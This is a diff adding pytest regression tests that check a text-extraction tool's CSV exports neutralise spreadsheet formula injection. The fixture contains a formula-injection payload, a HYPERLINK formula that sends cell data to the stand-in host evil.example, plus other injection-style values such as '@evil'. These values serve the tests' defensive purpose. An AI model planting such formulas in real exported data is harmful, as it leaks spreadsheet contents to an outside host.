@@ -255,3 +255,62 @@ def test_an_answer_that_fails_validation_says_why_in_one_line(fake_server: Any, 
     result = runner.invoke(app, args)
     reason = failures.read_text()
     assert "failed validation after 3 attempts: quotes: " in reason and "<" not in reason, result.output
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _formula_records(tmp_path: Path) -> Path:
+    data = tmp_path / "a.jsonl"
+    text = f'{FORMULA} Kerry said "+1 we talked" in London on Friday. {"x" * 40000}'
+    data.write_text(json.dumps({"id": "@evil", "text": text, "outlet": "-2+3"}) + "\n")
+    out = tmp_path / "r.jsonl"
+    assert (
+        runner.invoke(app, ["run", str(data), "-o", str(out), "--strategy", "rules", "--no-cache"]).exit_code
+        == 0
+    )
+    return out
+
+
+def test_csv_cells_from_article_text_cannot_be_formulas(tmp_path: Path) -> None:
+    """Item 9: cells starting with = + - @ (tab, CR) were exported as they were (formula
+    injection); cells are now neutralised (OWASP) unless --raw-cells, and capped for Excel."""
+    import csv
+
+    out = _formula_records(tmp_path)
+    csv_path = tmp_path / "q.csv"
+    for kind in ("quotes", "events"):
+        result = runner.invoke(app, ["export", str(out), "--kind", kind, "-o", str(csv_path)])
+        assert result.exit_code == 0, result.output
+        cells = [c for row in csv.reader(csv_path.open(encoding="utf-8")) for c in row]
+        assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], kind
+        assert max(len(c) for c in cells) <= 32767
+    assert "'@evil" in csv_path.read_text(encoding="utf-8")
+    raw = runner.invoke(app, ["export", str(out), "--kind", "events", "-o", str(csv_path), "--raw-cells"])
+    assert raw.exit_code == 0 and "\n@evil," in csv_path.read_text(encoding="utf-8")
+
+
+def test_the_report_csv_download_neutralises_formulas(tmp_path: Path) -> None:
+    """Item 9: the report's CSV download quoted cells but let formulas through."""
+    import re
+    import shutil
+    import subprocess
+
+    import pytest
+
+    from extract.analysis.report import PAGE
+
+    node = shutil.which("node")
+    if node is None:
+        pytest.skip("node is not installed")
+    cell = re.search(r"function cell\(v\) \{\{(.*?)\}\}\n", PAGE, re.S)
+    assert cell is not None
+    script = "function cell(v) {" + cell.group(1).replace("{{", "{").replace("}}", "}") + "}\n"
+    script += (
+        "console.log(JSON.stringify(['=1+1', '@x', '-2', '\\tx', 'plain', 'y'.repeat(40000)].map(cell)))"
+    )
+    shown = json.loads(
+        subprocess.run([node, "-e", script], capture_output=True, text=True, check=True).stdout
+    )
+    assert shown[:5] == ['"\'=1+1"', '"\'@x"', '"\'-2"', '"\'\tx"', '"plain"']
+    assert len(shown[5]) <= 32767 + 2
